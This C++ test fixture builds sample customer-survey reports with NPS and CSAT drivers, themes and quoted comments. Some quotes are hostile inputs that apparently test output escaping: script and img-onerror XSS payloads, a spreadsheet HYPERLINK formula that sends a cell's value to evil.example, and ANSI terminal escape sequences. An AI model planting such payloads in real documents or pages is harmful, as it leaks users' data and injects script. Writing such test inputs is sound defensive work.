#include "support/sample_report.h"

#include <array>
#include <cstddef>
#include <optional>
#include <span>
#include <utility>

namespace verbatim::testing {
namespace {

struct Sample {
  std::string_view theme;
  std::string_view label;
  std::uint64_t comments;
  double impact;  // low, high and the rest follow from it
  double half;    // half of the impact's interval
};

constexpr std::array<Sample, 13> kComplaints = {{
    {"wait.hold", "Time on hold", 312, -6.21, 1.31},
    {"delivery.late", "Late delivery", 268, -4.87, 1.18},
    {"digital.app", "Mobile app", 175, -3.02, 0.97},
    {"resolution.unresolved", "Problem not resolved", 148, -2.61, 0.92},
    {"billing.charges", "Charges and fees", 131, -1.94, 0.81},
    {"staff.attitude", "Staff attitude", 122, -1.71, 0.78},
    {"price.value", "Value for money", 240, -1.38, 0.95},
    {"product.defect", "Faulty product", 96, -1.12, 0.66},
    {"contact.reach", "Cannot get through", 84, -0.97, 0.61},
    {"delivery.damaged", "Arrived damaged", 61, -0.68, 0.51},
    {"information.updates", "No updates", 58, -0.52, 0.49},
    {"wait", "Waiting, unspecified", 44, -0.31, 0.42},
    {"environment.parking", "Parking", 33, 0.08, 0.35},
}};

constexpr std::array<Sample, 4> kPraise = {{
    {"staff.attitude", "Staff attitude", 410, 4.12, 1.02},
    {"delivery", "Delivery, unspecified", 205, 2.31, 0.84},
    {"product.quality", "Product quality", 188, 1.87, 0.79},
    {"digital.checkout", "Checkout", 74, 0.64, 0.52},
}};

constexpr std::array<Sample, 3> kFew = {{
    {"returns", "Returns", 27, -0.4, 0.5},
    {"security.privacy", "Privacy <b>& data</b>", 18, -0.2, 0.4},
    {"loyalty.rewards", "Rewards", 11, -0.1, 0.3},
}};

constexpr std::array<Sample, 2> kAreas = {{
    {"wait", "Waiting", 402, -7.48, 1.5},
    {"delivery", "Delivery", 341, -5.66, 1.33},
}};

constexpr std::array<Sample, 1> kGeneral = {{{"general", "General", 388, -5.1, 1.4}}};

constexpr std::array<Sample, 3> kCsat = {{
    {"wait.hold", "Time on hold", 300, -4.4, 1.1},
    {"staff.attitude", "Staff attitude", 118, -2.2, 0.8},
    {"delivery.late", "Late delivery", 251, -1.9, 1.0},
}};

std::vector<Quote> quotes_of(std::string_view theme) {
  if (theme == "wait.hold") {
    return {
        make_quote("Lovely people once you reach them, but I was on hold for 45 minutes, twice, and the line "
                   "dropped both times \xF0\x9F\x98\xA1",
                   "I was on hold for 45 minutes, twice,"),
        make_quote("<script>alert('hold')</script> waited an hour on the phone & nobody came \"back\"",
                   "waited an hour on the phone & nobody came \"back\""),
        make_quote("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"on hold forever\")", "on hold forever"),
    };
  }
  if (theme == "delivery.late") {
    return {
        make_quote("\xD8\xA7\xD9\x84\xD8\xB7\xD8\xB1\xD8\xAF \xD9\x88\xD8\xB5\xD9\x84 "
                   "\xD9\x85\xD8\xAA\xD8\xA3\xD8\xAE\xD8\xB1\xD8\xA7 (order 7) \xE2\x80\xAE late!",
                   "\xD9\x85\xD8\xAA\xD8\xA3\xD8\xAE\xD8\xB1\xD8\xA7"),
        make_quote("Two weeks late\x1b[31m and no word from you\nSecond line: still nothing\x07",
                   "Two weeks late\x1b[31m"),
        make_quote("l" + std::string(300, 'a') + "te, " + std::string("never again "), "never again"),
    };
  }
  if (theme == "digital.app") {
    return {
        make_quote("\"><img src=x onerror=alert(1)> the app crashes on login", "the app crashes on login"),
        make_quote(
            "Since the update the app is painfully slow. I used to order every week with it, it was quick "
            "and did what it said; now the basket empties itself, the search finds nothing, and after three "
            "tries I gave up and rang the shop, who told me that they know about it, that many others have "
            "rung, and that there is no date for a repair yet, which I find hard to believe of a firm of "
            "your size, with all the money that you spend on adverts about how easy it is to use.",
            "after three tries I gave up"),
        make_quote("\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7 "
                   "app doesn\xE2\x80\x99t open \xE4\xB8\x8D\xE5\xA5\xBD",
                   "app doesn\xE2\x80\x99t open"),
    };
  }
  return {make_quote("It let me down again, and that was that.", "It let me down again"),
          make_quote("Not what I expect of you.", "Not what I expect")};
}

DriverRow make_row(const Sample& sample, DriverKind kind, std::string_view score, double base) {
  DriverRow row;
  row.theme = sample.theme;
  row.label = sample.label;
  row.kind = kind;
  row.score = score;
  row.unit = score == "nps" ? "NPS points" : "CSAT %";
  row.comments = sample.comments;
  row.share = static_cast<double>(sample.comments) / base;
  row.impact = sample.impact;
  row.impact_low = sample.impact - sample.half;
  row.impact_high = sample.impact + sample.half;
  row.score_without = 8.1 - sample.impact;
  row.score_with = *row.score_without + sample.impact / row.share;
  row.severity = 3 * sample.impact;
  row.severity_low = 3 * sample.impact - 9;
  row.severity_high = 3 * sample.impact + 9;
  row.p = sample.half > 1.2 ? 0.0000001234 : 0.0312;
  row.q = sample.half > 1.2 ? 0.0000004321 : 0.0625;
  row.severity_p = 0.02;
  row.severity_q = 0.04;
  row.quotes = quotes_of(sample.theme);
  for (std::size_t i = 0; i < row.quotes.size(); ++i) {
    row.quotes[i].source = "survey.csv";
    row.quotes[i].row = 17 * (i + 1) + sample.comments;
    row.quotes[i].id = "R-" + std::to_string(1000 + row.quotes[i].row);
  }
  return row;
}

void add_rows(std::span<const Sample> samples, DriverKind kind, std::string_view score, bool ranked,
              DriverLevel level, std::vector<DriverRow>& rows) {
  std::uint32_t rank = 0;
  for (const Sample& sample : samples) {
    DriverRow row = make_row(sample, kind, score, score == "nps" ? 2860.0 : 2744.0);
    row.level = level;
    if (ranked) row.rank = ++rank;
    row.too_few_to_rank = !ranked && level == DriverLevel::leaf;
    if (row.too_few_to_rank) row.q = std::nullopt;
    rows.push_back(std::move(row));
  }
}

Figure figure(std::uint64_t n, double value, double half) {
  return {n, value, value - half, value + half};
}

ScoreFigures nps(std::uint64_t n, double value, double half, double promoters) {
  ScoreFigures figures;
  figures.main = figure(n, value, half);
  figures.promoters = promoters;
  figures.detractors = promoters - value;
  figures.passives = 100 - 2 * promoters + value;
  return figures;
}

}  // namespace

Quote make_quote(std::string_view text, std::string_view marked) {
  Quote quote;
  quote.text = text;
  if (const std::size_t at = text.find(marked); at != std::string_view::npos) {
    quote.highlight = {static_cast<std::uint32_t>(at), static_cast<std::uint32_t>(at + marked.size())};
  }
  return quote;
}

Report sample_report() {
  Report report;
  report.inputs = {{"survey.csv", 812345, 3032, {"id", "date", "region", "channel", "csat", "comment"}},
                   {"more \"notes\" <2>.csv", 4096, 12, {"id", "comment"}}};
  report.ledger = {.analysed = 2900,
                   .empty = 61,
                   .no_content = 34,
                   .repeat = 17,
                   .filtered = 20,
                   .repeated_header = 1,
                   .rejected = 11,
                   .over_limit = 0};
  report.notes = {.blank_lines = 3,
                  .invalid_utf8 = 2,
                  .stray_quotes = 1,
                  .same_id_other_text = 4,
                  .missing_id = 0,
                  .encoded_twice = 0,
                  .lost_characters = 0,
                  .examples = {"survey.csv:812: an id that stood before, with other text; both are kept"}};
  report.joins = {{"scores.csv", "id", "respondent", 3020, 2999, 45, 2, 1, 21, {"R-9\x1b[2J"}, {"Z-1"}}};

  ScoreSummary score;
  score.name = "nps";
  score.column = "nps";
  score.meaning = {ScoreKind::nps, TimeUnit::none, false};
  score.official = nps(2951, 12.4, 2.9, 44.1);
  score.commenters = nps(2860, 8.1, 3.0, 42.0);
  score.silent = nps(91, 45.2, 12.8, 60.3);
  score.problems = {{"out of range 0..10", 2, {{"scores.csv", 77, 2}}}, {"missing", 44, {}}};
  report.scores.push_back(score);

  score = {};
  score.name = "csat";
  score.column = "csat";
  score.meaning = {ScoreKind::csat5, TimeUnit::none, false};
  score.official.main = figure(2810, 71.3, 1.7);
  score.commenters.main = figure(2744, 69.9, 1.7);
  score.silent.main = figure(66, 86.4, 8.3);
  report.scores.push_back(score);

  score = {};
  score.name = "time_to_answer";
  score.column = "asked..answered";
  score.meaning = {ScoreKind::ttr, TimeUnit::hour, true};
  score.official.main = figure(1204, 18.42, 1.21);
  score.official.median = 9.5;
  score.official.p90 = 51.0;
  score.commenters.main = figure(1160, 18.77, 1.26);
  score.commenters.median = 9.75;
  score.commenters.p90 = 52.0;
  score.silent.main.n = 0;
  report.scores.push_back(score);

  report.sentiment = {1204, 402, 921, 188, 185, -0.0812};

  add_rows(kComplaints, DriverKind::complaint, "nps", true, DriverLevel::leaf, report.drivers);
  add_rows(kFew, DriverKind::complaint, "nps", false, DriverLevel::leaf, report.drivers);
  add_rows(kAreas, DriverKind::complaint, "nps", false, DriverLevel::parent, report.drivers);
  add_rows(kGeneral, DriverKind::complaint, "nps", false, DriverLevel::general, report.drivers);
  add_rows(kPraise, DriverKind::praise, "nps", true, DriverLevel::leaf, report.drivers);
  add_rows(kCsat, DriverKind::complaint, "csat", true, DriverLevel::leaf, report.drivers);
  add_rows(std::span(kPraise).first(1), DriverKind::praise, "csat", true, DriverLevel::leaf, report.drivers);

  report.themes = {
      {"delivery", "Delivery", "", 560, 300, 14, 205, 41},
      {"delivery.damaged", "Arrived damaged", "delivery", 66, 58, 5, 0, 3},
      {"delivery.late", "Late delivery", "delivery", 280, 240, 6, 6, 28},
      {"digital", "Digital", "", 302, 160, 50, 74, 18},
      {"digital.app", "Mobile app", "digital", 214, 158, 22, 17, 17},
      {"digital.checkout", "Checkout", "digital", 90, 12, 4, 70, 4},
      {"environment", "Environment", "", 51, 33, 8, 10, 0},
      {"environment.parking", "Parking", "environment", 51, 33, 8, 10, 0},
      {"food", "Food & drink", "", 0, 0, 0, 0, 0},
      {"general", "General", "", 988, 380, 0, 600, 8},
      {"staff", "Staff", "", 612, 131, 60, 380, 41},
      {"staff.attitude", "Staff attitude", "staff", 540, 102, 28, 390, 20},
      {"wait", "Waiting", "", 431, 361, 9, 20, 41},
      {"wait.hold", "Time on hold", "wait", 330, 280, 8, 10, 32},
  };
  report.warnings = {"the column \"csat\" holds 3 values out of range; they are not used",
                     "two lexicon rules for <b>parking</b> overlap"};
  report.lexicon_version = "1.2.0";
  report.program_version = "0.1.0";
  return report;
}

Report small_report() {
  Report report;
  report.inputs = {{"a.csv", 120, 5, {"id", "text"}}};
  report.ledger.analysed = 3;
  report.ledger.empty = 2;
  ScoreSummary score;
  score.name = "nps";
  score.column = "score";
  score.meaning = {ScoreKind::nps, TimeUnit::none, false};
  score.official.main = {5, 20.0, -30.5, 70.5};
  score.commenters.main = {3, 0.0, -60.25, 60.25};
  score.silent.main = {2, 50.0, std::nullopt, std::nullopt};
  report.scores = {score};
  report.sentiment = {2, 0, 1, 0, 0, -0.25};
  DriverRow row;
  row.rank = 1;
  row.theme = "wait.hold";
  row.label = "Time on hold";
  row.score = "nps";
  row.unit = "NPS points";
  row.comments = 2;
  row.share = 2.0 / 3.0;
  row.score_with = -50.0;
  row.score_without = 4.1;
  row.impact = -4.1;
  row.impact_low = -6.25;
  row.impact_high = -0.0001;
  row.p = 0.04999;
  row.q = 0.1;
  row.quotes = {make_quote("On hold, again!", "On hold")};
  row.quotes[0].source = "a.csv";
  row.quotes[0].row = 2;
  row.quotes[0].id = "R-2";
  report.drivers = {row};
  report.themes = {{"wait", "Waiting", "", 2, 2, 0, 0, 0, ""},
                   {"wait.hold", "Time on hold", "wait", 2, 2, 0, 0, 0, ""}};
  report.lexicon_version = "1.0.0";
  report.program_version = "0.1.0";
  return report;
}

}  // namespace verbatim::testing
